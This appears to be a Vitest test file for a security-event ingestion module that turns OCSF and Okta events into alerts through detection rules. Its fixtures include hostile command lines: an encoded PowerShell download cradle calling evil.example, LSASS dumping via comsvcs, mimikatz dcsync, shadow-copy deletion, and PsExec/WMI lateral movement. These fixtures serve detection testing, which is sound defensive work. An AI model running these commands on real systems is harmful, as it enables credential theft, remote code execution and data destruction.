/**
 * OCSF events to one alert, as pure functions: parsing each class and Okta sign-ins, the
 * detection rules, redaction, and the stable source reference.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/domain/errors.js';
import {
  eventsDigest,
  haversineKm,
  oktaToOcsf,
  parseEvent,
  parseSubmission,
  redactSecrets,
  synthesizeAlert,
  type SecurityEvent,
} from '../../src/ingest/ocsf/index.js';
import { OktaEvent } from '../../src/ingest/ocsf/schema.js';

const T0 = Date.parse('2025-06-02T08:00:00Z');
const at = (minutes: number) => T0 + minutes * 60_000;

const alertOf = (events: unknown[], overrides: Record<string, unknown> = {}) => synthesizeAlert(parseSubmission({ events, ...overrides }));

function refusal(run: () => unknown): AppError {
  try {
    run();
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('expected a refusal');
}

function parsed(raw: unknown): SecurityEvent {
  const result = parseEvent(raw, 0, '/body/events/0');
  if (!result.ok) throw new Error(`not parsed: ${JSON.stringify(result)}`);
  return result.event;
}

const signIn = (user: string, ok: boolean, time: number, extra: Record<string, unknown> = {}) => ({
  class_uid: 3002,
  activity_id: 1,
  time,
  status_id: ok ? 1 : 2,
  user: { name: user },
  src_endpoint: { ip: '192.0.2.10' },
  ...extra,
});
const located = (user: string, time: number, lat: number, long: number, city: string) =>
  signIn(user, true, time, { src_endpoint: { ip: '198.51.100.1', location: { lat, long, city } } });
const process = (host: string, cmd: string, extra: Record<string, unknown> = {}) => ({
  class_uid: 1007,
  activity_id: 1,
  time: T0,
  device: { hostname: host },
  process: { cmd_line: cmd, ...extra },
});
const connection = (src: string, dst: string, port: number, time = T0) => ({
  class_uid: 4001,
  activity_id: 1,
  time,
  src_endpoint: { ip: src },
  dst_endpoint: { ip: dst, port },
});

const OKTA = {
  uuid: 'f0c1e5a2-0000-11ef-8000-000000000001',
  published: '2025-06-02T08:00:00.000Z',
  eventType: 'user.session.start',
  severity: 'INFO',
  displayMessage: 'User login to Okta',
  actor: { id: '00u1abcd', type: 'User', alternateId: 'ana@acme.example', displayName: 'Ana Lopez' },
  client: {
    ipAddress: '203.0.113.5',
    userAgent: { rawUserAgent: 'Mozilla/5.0' },
    geographicalContext: { city: 'Madrid', state: null, country: 'Spain', postalCode: null, geolocation: { lat: 40.4168, lon: -3.7038 } },
  },
  authenticationContext: { externalSessionId: 'trs9aX', credentialType: 'PASSWORD' },
  outcome: { result: 'SUCCESS', reason: null },
  target: [{ id: '0oa1', type: 'AppInstance' }],
};

describe('parsing OCSF events', () => {
  it('reads Authentication (3002): user, outcome, endpoints, place; unknown fields are fine', () => {
    const event = parsed({
      ...signIn('ana', false, T0, { src_endpoint: { ip: '192.0.2.1', hostname: 'kiosk-1', location: { lat: 1.5, long: 2.5, city: 'Nowhere' } } }),
      dst_endpoint: { hostname: 'dc-01' },
      logon_type_id: 10,
      vendor_specific: { anything: [1, 2, 3] },
    });
    expect(event).toMatchObject({
      kind: 'authentication',
      user: 'ana',
      outcome: 'failure',
      srcIp: '192.0.2.1',
      srcHost: 'kiosk-1',
      dstHost: 'dc-01',
      logonType: 10,
      place: { lat: 1.5, lon: 2.5, label: 'Nowhere' },
    });
    expect(event.time.toISOString()).toBe('2025-06-02T08:00:00.000Z');
  });

  it('reads Process Activity (1007): host, user, process, hashes; the program from the command line when unnamed', () => {
    const event = parsed({
      ...process('WS-1', '"C:\\Tools\\thing.exe" --flag', { file: { hashes: [{ algorithm_id: 3, value: 'ABCDEF0123456789' }] }, user: { name: 'bob' } }),
      actor: { process: { name: 'explorer.exe' } },
    });
    expect(event).toMatchObject({ kind: 'process', host: 'WS-1', user: 'bob', name: 'thing.exe', hashes: ['abcdef0123456789'], parentName: 'explorer.exe' });
  });

  it('reads Network Activity (4001) and DNS Activity (4003); times may be RFC 3339 text', () => {
    expect(parsed({ ...connection('10.0.0.1', '10.0.0.2', 445), dst_endpoint: { ip: '10.0.0.2', port: 445, hostname: 'fs-01' } })).toMatchObject({
      kind: 'network',
      srcIp: '10.0.0.1',
      dstIp: '10.0.0.2',
      dstHost: 'fs-01',
      dstPort: 445,
    });
    expect(parsed({ class_uid: 4003, time: '2025-06-02T08:00:00Z', query: { hostname: 'Example.COM.' }, device: { hostname: 'ws-2' } })).toMatchObject({
      kind: 'dns',
      query: 'example.com',
      host: 'ws-2',
    });
  });

  it('is strict on the fields it reads: each problem has its path', () => {
    const result = parseEvent({ class_uid: 4001, time: -5, src_endpoint: { ip: 'not-an-ip' }, dst_endpoint: { port: 70_000 } }, 3, '/body/events/3');
    expect(result.ok).toBe(false);
    const paths = (result as { errors: { path: string }[] }).errors.map((e) => e.path).sort();
    expect(paths).toEqual(['/body/events/3/dst_endpoint', '/body/events/3/dst_endpoint/port', '/body/events/3/src_endpoint/ip', '/body/events/3/time']);
  });

  it('names what it does not read as unsupported, and what is no event at all as invalid', () => {
    expect(parseEvent({ class_uid: 2004, time: T0 }, 0, '/e')).toEqual({ ok: false, unsupported: 'class_uid 2004', errors: [] });
    expect(parseEvent({ eventType: 'group.user_membership.add' }, 0, '/e')).toEqual({ ok: false, unsupported: 'Okta eventType group.user_membership.add', errors: [] });
    expect(parseEvent({ class_uid: '3002' }, 0, '/e')).toMatchObject({ ok: false, unsupported: null, errors: [{ path: '/e/class_uid' }] });
    expect(parseEvent([1, 2], 0, '/e')).toMatchObject({ ok: false, unsupported: null, errors: [{ path: '/e' }] });
  });
});

describe('Okta System Log sign-ins', () => {
  it('map to OCSF Authentication (3002) first', () => {
    const ocsf = oktaToOcsf(OktaEvent.parse(OKTA));
    expect(ocsf).toMatchObject({
      class_uid: 3002,
      activity_id: 1,
      type_uid: 300201,
      time: T0,
      status_id: 1,
      status: 'SUCCESS',
      severity_id: 1,
      user: { name: 'ana@acme.example', uid: '00u1abcd', email_addr: 'ana@acme.example' },
      src_endpoint: { ip: '203.0.113.5', location: { lat: 40.4168, long: -3.7038, city: 'Madrid', country: 'Spain' } },
      metadata: { product: { name: 'Okta', vendor_name: 'Okta' }, uid: OKTA.uuid, event_code: 'user.session.start' },
      http_request: { user_agent: 'Mozilla/5.0' },
    });
    expect(parsed(OKTA)).toMatchObject({ kind: 'authentication', user: 'ana@acme.example', outcome: 'success', place: { label: 'Madrid, Spain' }, product: 'Okta' });
  });

  it('map failures, denials, challenges and session ends by outcome and event type', () => {
    const outcome = (result: string, eventType = 'user.authentication.auth_via_mfa') => parsed({ ...OKTA, eventType, outcome: { result, reason: 'x' } }) as { outcome: string; logoff: boolean };
    expect(outcome('FAILURE').outcome).toBe('failure');
    expect(outcome('DENY').outcome).toBe('failure');
    expect(outcome('CHALLENGE').outcome).toBe('other');
    expect(outcome('SUCCESS', 'user.session.end').logoff).toBe(true);
    expect(oktaToOcsf(OktaEvent.parse({ ...OKTA, eventType: 'user.authentication.auth_via_mfa' }))).toMatchObject({ is_mfa: true });
  });
});

describe('detection rules', () => {
  it('a burst of failed sign-ins is brute force (T1110); fewer, or spread out, is nothing', () => {
    const burst = alertOf(Array.from({ length: 6 }, (_, i) => signIn('carl', false, at(i))));
    expect(burst).toMatchObject({ title: 'Brute force against carl: 6 failed sign-ins in 5 minutes', techniques: ['T1110'], severity: 'medium', rule: 'ocsf.brute_force' });
    expect(alertOf(Array.from({ length: 4 }, (_, i) => signIn('carl', false, at(i)))).techniques).toEqual([]);
    expect(alertOf(Array.from({ length: 6 }, (_, i) => signIn('carl', false, at(i * 30)))).techniques).toEqual([]);
  });

  it('a successful sign-in after many failures is brute force that worked: T1110 and T1078, high', () => {
    const alert = alertOf([...Array.from({ length: 5 }, (_, i) => signIn('dana', false, at(i))), signIn('dana', true, at(6))]);
    expect(alert).toMatchObject({ title: 'Successful sign-in for dana after 5 failed attempts', techniques: ['T1110', 'T1078'], severity: 'high' });
  });

  it('failures for many accounts from one address are password spraying (T1110.003)', () => {
    const alert = alertOf(['a', 'b', 'c', 'd', 'e'].map((user, i) => signIn(user, false, at(i))));
    expect(alert.title).toBe('Password spraying from 192.0.2.10: failed sign-ins for 5 accounts');
    expect(alert.techniques).toEqual(['T1110.003']);
  });

  it('impossible travel: two sign-ins of one user farther apart than 900 km/h allows', () => {
    // Paris to Tokyo (about 9,700 km) in two hours.
    const alert = alertOf([located('eve', at(0), 48.8566, 2.3522, 'Paris'), located('eve', at(120), 35.6762, 139.6503, 'Tokyo')]);
    expect(alert.title).toMatch(/^Impossible travel: eve signed in from Paris and Tokyo, 97\d\d km apart in 2\.0 hours$/);
    expect(alert).toMatchObject({ techniques: ['T1078'], severity: 'high', rule: 'ocsf.impossible_travel' });
    expect(alert.description).toMatch(/km\/h/);
  });

  it('no impossible travel when the trip is possible, the places are near, or the sign-ins are not one user or not successes', () => {
    // Paris to Tokyo in 14 hours is about 700 km/h: a flight.
    expect(alertOf([located('eve', at(0), 48.8566, 2.3522, 'Paris'), located('eve', at(14 * 60), 35.6762, 139.6503, 'Tokyo')]).techniques).toEqual([]);
    // Paris to Versailles (about 17 km) a minute apart: geolocation noise, not travel.
    expect(alertOf([located('eve', at(0), 48.8566, 2.3522, 'Paris'), located('eve', at(1), 48.8049, 2.1204, 'Versailles')]).techniques).toEqual([]);
    expect(alertOf([located('eve', at(0), 48.8566, 2.3522, 'Paris'), located('frank', at(1), 35.6762, 139.6503, 'Tokyo')]).techniques).toEqual([]);
    const failed = { ...located('eve', at(1), 35.6762, 139.6503, 'Tokyo'), status_id: 2 };
    expect(alertOf([located('eve', at(0), 48.8566, 2.3522, 'Paris'), failed]).techniques).toEqual([]);
  });

  it('impossible travel through Okta events, the same rule after mapping', () => {
    const okta = (published: string, lat: number, lon: number, city: string) => ({ ...OKTA, uuid: published, published, client: { ...OKTA.client, geographicalContext: { city, country: null, geolocation: { lat, lon } } } });
    const alert = alertOf([okta('2025-06-02T08:00:00Z', 40.4168, -3.7038, 'Madrid'), okta('2025-06-02T08:20:00Z', 52.52, 13.405, 'Berlin')]);
    expect(alert.title).toMatch(/^Impossible travel: ana@acme\.example signed in from Madrid and Berlin, 18\d\d km apart in 20 minutes$/);
    expect(alert.source).toBe('okta');
  });

  it('encoded PowerShell is T1059.001 and T1027; the decoded script is read too (a download cradle is T1105, its URL an entity)', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/x.ps1')";
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    const alert = alertOf([process('WS-9', `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded}`)]);
    expect(alert.title).toBe('Encoded PowerShell on WS-9');
    expect(alert.techniques).toEqual(['T1059.001', 'T1027', 'T1105']);
    expect(alert.severity).toBe('high');
    expect(alert.entities).toEqual(expect.arrayContaining([{ type: 'url', value: 'https://evil.example/x.ps1' }, { type: 'domain', value: 'evil.example' }]));
    expect(alert.description).toContain('DownloadString');
    // Every prefix PowerShell accepts for -EncodedCommand counts; -ExecutionPolicy does not.
    for (const flag of ['-e', '-enc', '-EnCoDeD', '/ec']) expect(alertOf([process('WS-9', `pwsh ${flag} ${encoded}`)]).techniques).toContain('T1059.001');
    expect(alertOf([process('WS-9', 'powershell.exe -ExecutionPolicy Bypass -File backup.ps1')]).techniques).toEqual([]);
  });

  it('other suspicious command lines: download cradles, credential dumping, deleting shadow copies, discovery', () => {
    const cradle = alertOf([process('WS-1', "powershell -nop -c \"IEX (iwr 'http://198.51.100.9/a')\"")]);
    expect(cradle.techniques).toEqual(['T1059.001', 'T1105']);
    const dump = alertOf([process('WS-1', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full')]);
    expect(dump).toMatchObject({ techniques: ['T1003.001'], severity: 'critical', title: 'Credential dumping on WS-1' });
    expect(alertOf([process('DC-1', 'mimikatz.exe "lsadump::dcsync /user:krbtgt"')]).techniques).toEqual(['T1003.001', 'T1003.006']);
    expect(alertOf([process('SRV-1', 'vssadmin.exe delete shadows /all /quiet')])).toMatchObject({ techniques: ['T1490'], severity: 'critical' });
    expect(alertOf([process('WS-1', 'net group "domain admins" /domain'), process('WS-1', 'whoami /all')]).techniques).toEqual(['T1087.002', 'T1033']);
    expect(alertOf([process('WS-1', 'notepad.exe C:\\notes.txt')]).techniques).toEqual([]);
  });

  it('lateral movement: PsExec, remote services, WMI, WinRM and admin shares name their targets', () => {
    const psexec = alertOf([process('WS-1', 'psexec.exe \\\\FS-01 -s cmd.exe', { name: 'psexec.exe' })]);
    expect(psexec).toMatchObject({ title: 'Lateral movement from WS-1 to 1 host via PsExec', techniques: ['T1569.002', 'T1021.002', 'T1570'], severity: 'high' });
    expect(psexec.entities).toContainEqual({ type: 'host', value: 'FS-01' });
    expect(alertOf([process('WS-1', 'sc.exe \\\\APP-7 create upd binPath= C:\\t\\u.exe')]).techniques).toEqual(['T1021.002', 'T1543.003', 'T1569.002']);
    const wmi = alertOf([process('WS-1', 'wmic /node:"DB-1,DB-2" process call create "cmd /c x.exe"')]);
    expect(wmi).toMatchObject({ title: 'Lateral movement from WS-1 to 2 hosts via WMI', techniques: ['T1047'] });
    expect(alertOf([process('WS-1', 'powershell Invoke-Command -ComputerName HR-3 -ScriptBlock { hostname }')]).techniques).toEqual(['T1021.006']);
    expect(alertOf([process('WS-1', 'cmd /c copy x.exe \\\\SQL-2\\ADMIN$\\x.exe')]).techniques).toEqual(['T1021.002', 'T1570']);
  });

  it('SMB or RDP from one source to several internal hosts is lateral movement; to one or two it is not', () => {
    const smb = alertOf(['10.0.0.11', '10.0.0.12', '10.0.0.13'].map((dst) => connection('10.0.0.5', dst, 445)));
    expect(smb).toMatchObject({ title: 'Lateral movement from 10.0.0.5 to 3 hosts via SMB', techniques: ['T1021.002'] });
    const rdp = alertOf(['10.0.0.11', '10.0.0.12', '10.0.0.13'].map((dst) => connection('10.0.0.5', dst, 3389)));
    expect(rdp.techniques).toEqual(['T1021.001']);
    expect(alertOf(['10.0.0.11', '10.0.0.12'].map((dst) => connection('10.0.0.5', dst, 445))).techniques).toEqual([]);
    // Public destinations are not internal hosts.
    expect(alertOf(['203.0.113.1', '203.0.113.2', '203.0.113.3'].map((dst) => connection('10.0.0.5', dst, 3389))).techniques).toEqual(['T1571']);
  });

  it('outbound connections on unusual ports are T1571; common ones and internal ones are not', () => {
    const odd = alertOf([connection('10.0.0.5', '198.51.100.20', 4444)]);
    expect(odd).toMatchObject({ title: 'Outbound connections on unusual ports: 198.51.100.20:4444', techniques: ['T1571'], severity: 'high' });
    expect(odd.description).toContain('Metasploit');
    expect(alertOf([connection('10.0.0.5', '198.51.100.20', 8771)]).severity).toBe('medium');
    expect(alertOf([connection('10.0.0.5', '198.51.100.20', 443), connection('10.0.0.5', '10.0.0.9', 8771)]).techniques).toEqual([]);
  });

  it('a port scan and DNS tunneling are recognised', () => {
    const scan = alertOf(Array.from({ length: 20 }, (_, i) => connection('10.0.0.5', '10.0.0.9', 1000 + i)));
    expect(scan).toMatchObject({ title: 'Port scan from 10.0.0.5: 20 ports on 10.0.0.9', techniques: ['T1046'] });
    const dns = alertOf([{ class_uid: 4003, time: T0, device: { hostname: 'ws-3' }, query: { hostname: 'a9f3k2l8q7w1e6r5t4y3u2i1o0p9s8d7f6g5h4j3.tunnel.example.net' } }]);
    expect(dns).toMatchObject({ title: 'Possible DNS tunneling to example.net', techniques: ['T1071.004'] });
    expect(alertOf([{ class_uid: 4003, time: T0, query: { hostname: 'www.example.com' } }]).techniques).toEqual([]);
  });

  it('findings across three or more stages are a chain: one step more severe, the furthest-reaching finding leads the title', () => {
    const script = Buffer.from('Write-Output hi', 'utf16le').toString('base64');
    const alert = alertOf([
      ...Array.from({ length: 5 }, (_, i) => signIn('gil', false, at(i))),
      signIn('gil', true, at(6)),
      process('WS-5', `powershell -enc ${script}`),
      process('WS-5', 'psexec \\\\FS-02 cmd', { name: 'psexec.exe' }),
    ]);
    expect(alert.severity).toBe('critical');
    expect(alert.title).toBe('Lateral movement from WS-5 to 1 host via PsExec; also a sign-in after a brute-force burst, encoded PowerShell');
    expect(alert.description).toContain('a chain across 3 stages');
  });

  it('with no finding, the title says what the events are; severity follows the events’ own severity_id', () => {
    const alert = alertOf([signIn('hal', true, T0, { severity_id: 3, device: { hostname: 'LAPTOP-1' }, dst_endpoint: { hostname: 'LAPTOP-1' } })]);
    expect(alert).toMatchObject({ title: 'Authentication activity by hal on LAPTOP-1 (1 event)', severity: 'medium', techniques: [], rule: null });
  });

  it('overrides win over every derived value', () => {
    const alert = alertOf([process('WS-1', 'vssadmin delete shadows /all')], {
      title: 'Mine',
      severity: 'low',
      source: 'edr',
      source_ref: 'ref-1',
      techniques: ['T1000'],
      description: 'Hand-written',
    });
    expect(alert).toMatchObject({ title: 'Mine', severity: 'low', source: 'edr', source_ref: 'ref-1', techniques: ['T1000'], description: 'Hand-written' });
  });

  it('source is the one product the events name, else their one vendor, else ocsf', () => {
    const from = (product: string, vendor: string) => ({ ...signIn('i', true, T0), metadata: { product: { name: product, vendor_name: vendor } } });
    expect(alertOf([from('Microsoft Defender for Endpoint', 'Microsoft')]).source).toBe('microsoft-defender-for-endpoint');
    expect(alertOf([from('Defender', 'Microsoft'), from('Entra ID', 'Microsoft')]).source).toBe('microsoft');
    expect(alertOf([from('Defender', 'Microsoft'), from('Falcon', 'CrowdStrike')]).source).toBe('ocsf');
    expect(alertOf([signIn('i', true, T0)]).source).toBe('ocsf');
  });

  it('the canonical example synthesises a critical lateral-movement alert', () => {
    const example = JSON.parse(readFileSync(new URL('../../examples/alerts/lateral-movement.json', import.meta.url), 'utf8')) as { events: unknown[] };
    const alert = synthesizeAlert(parseSubmission(example));
    expect(alert.title).toMatch(/^Lateral movement from WS-0142 to 6 hosts/);
    expect(alert.severity).toBe('critical');
    expect(alert.techniques).toEqual(expect.arrayContaining(['T1021.002', 'T1021.001', 'T1047', 'T1569.002', 'T1570', 'T1059.001']));
  });
});

describe('haversine', () => {
  it('gives great-circle distances', () => {
    expect(haversineKm({ lat: 51.5074, lon: -0.1278 }, { lat: 40.7128, lon: -74.006 })).toBeCloseTo(5570, -1);
    expect(haversineKm({ lat: 10, lon: 20 }, { lat: 10, lon: 20 })).toBe(0);
    expect(haversineKm({ lat: 0, lon: 0 }, { lat: 0, lon: 180 })).toBeCloseTo(Math.PI * 6371.0088, 3);
  });
});

describe('redaction', () => {
  it('replaces the value of every secret-looking key at any depth, case-insensitively, and leaves the rest', () => {
    const input = {
      user: 'ana',
      PASSWORD: 'p1',
      passwd: 'p2',
      config: { client_secret: 's', nested: [{ ApiKey: 'k' }, [{ 'x-api-key': 'k2' }]], Authorization: 'Bearer t' },
      http: { cookie: { a: 1 }, refresh_token: 't2', sessionId: 'sid', private_key: 'pk', credentials: ['c'] },
      count: 3,
      list: [1, 'two', null],
    };
    expect(redactSecrets(input)).toEqual({
      user: 'ana',
      PASSWORD: '[REDACTED]',
      passwd: '[REDACTED]',
      config: { client_secret: '[REDACTED]', nested: [{ ApiKey: '[REDACTED]' }, [{ 'x-api-key': '[REDACTED]' }]], Authorization: '[REDACTED]' },
      http: { cookie: '[REDACTED]', refresh_token: '[REDACTED]', sessionId: '[REDACTED]', private_key: '[REDACTED]', credentials: '[REDACTED]' },
      count: 3,
      list: [1, 'two', null],
    });
    expect(input.PASSWORD).toBe('p1');
  });

  it('the alert keeps the redacted events as its raw payload', () => {
    const alert = alertOf([{ ...signIn('j', true, T0), unmapped: { token: 'abc' } }]);
    expect(alert.raw).toEqual({ events: [{ ...signIn('j', true, T0), unmapped: { token: '[REDACTED]' } }] });
  });
});

describe('source_ref', () => {
  it('is a stable digest of the events: the same events in any order, with keys in any order, give the same one', () => {
    const a = signIn('k', true, T0);
    const b = process('WS-1', 'whoami');
    const ref = alertOf([a, b]).source_ref;
    expect(ref).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(alertOf([b, Object.fromEntries(Object.entries(a).reverse())]).source_ref).toBe(ref);
    expect(alertOf([a, b], { title: 'x' }).source_ref).toBe(ref);
    expect(alertOf([a]).source_ref).not.toBe(ref);
    expect(alertOf([a, a, b]).source_ref).not.toBe(ref);
  });

  it('is taken over the redacted events: a secret changes nothing, and reveals nothing', () => {
    const with1 = { ...signIn('l', true, T0), unmapped: { password: 'one' } };
    const with2 = { ...signIn('l', true, T0), unmapped: { password: 'two' } };
    expect(alertOf([with1]).source_ref).toBe(alertOf([with2]).source_ref);
    expect(eventsDigest([redactSecrets(with1)])).toBe(alertOf([with1]).source_ref);
  });
});

describe('limits and refusals', () => {
  it('more than 1,000 events, or an event over 64 KB, is too large', () => {
    expect(refusal(() => parseSubmission({ events: Array.from({ length: 1001 }, () => signIn('m', true, T0)) })).kind).toBe('too_large');
    const big = refusal(() => parseSubmission({ events: [signIn('m', true, T0), { ...signIn('m', true, T0), message: 'x'.repeat(65_536) }] }));
    expect(big.kind).toBe('too_large');
    expect(big.extra.errors).toEqual([{ path: '/body/events/1', message: expect.stringContaining('at most 65536') }]);
    expect(parseSubmission({ events: Array.from({ length: 1000 }, () => signIn('m', true, T0)) }).events).toHaveLength(1000);
  });

  it('a bad event is invalid (400), with every problem of every event; an unsupported class alone is unprocessable (422)', () => {
    const invalid = refusal(() => parseSubmission({ events: [{ class_uid: 3002, time: T0, status_id: 1 }, { class_uid: 2004 }, { class_uid: 1007, time: T0, device: {}, process: {} }] }));
    expect(invalid.kind).toBe('invalid');
    expect(invalid.extra.errors!.map((e) => e.path)).toEqual(['/body/events/0/user', '/body/events/2/process', '/body/events/2/device']);
    const unsupported = refusal(() => parseSubmission({ events: [signIn('n', true, T0), { class_uid: 2004 }] }));
    expect(unsupported.kind).toBe('unprocessable');
    expect(unsupported.message).toMatch(/^class_uid 2004 \(event 1\) is not supported; supported: OCSF Authentication \(class_uid 3002\)/);
  });

  it('U+0000 anywhere is invalid: the store and the read models cannot keep it', () => {
    const nul = refusal(() => parseSubmission({ events: [{ ...signIn('a\u0000b', true, T0), unmapped: { 'k\u0000': 1, list: ['ok', 'x\u0000'] } }] }));
    expect(nul.kind).toBe('invalid');
    expect(nul.extra.errors).toEqual([
      { path: '/body/events/0/user/name', message: 'contains U+0000' },
      { path: '/body/events/0/unmapped/k\\u0000', message: 'a key contains U+0000' },
      { path: '/body/events/0/unmapped/list/1', message: 'contains U+0000' },
    ]);
  });

  it('overrides are checked too', () => {
    expect(refusal(() => parseSubmission({ events: [signIn('o', true, T0)], severity: 'apocalyptic' })).extra.errors).toEqual([{ path: '/body/severity', message: expect.any(String) }]);
    expect(refusal(() => parseSubmission({ events: [signIn('o', true, T0)], techniques: ['T12'] })).kind).toBe('invalid');
  });
});
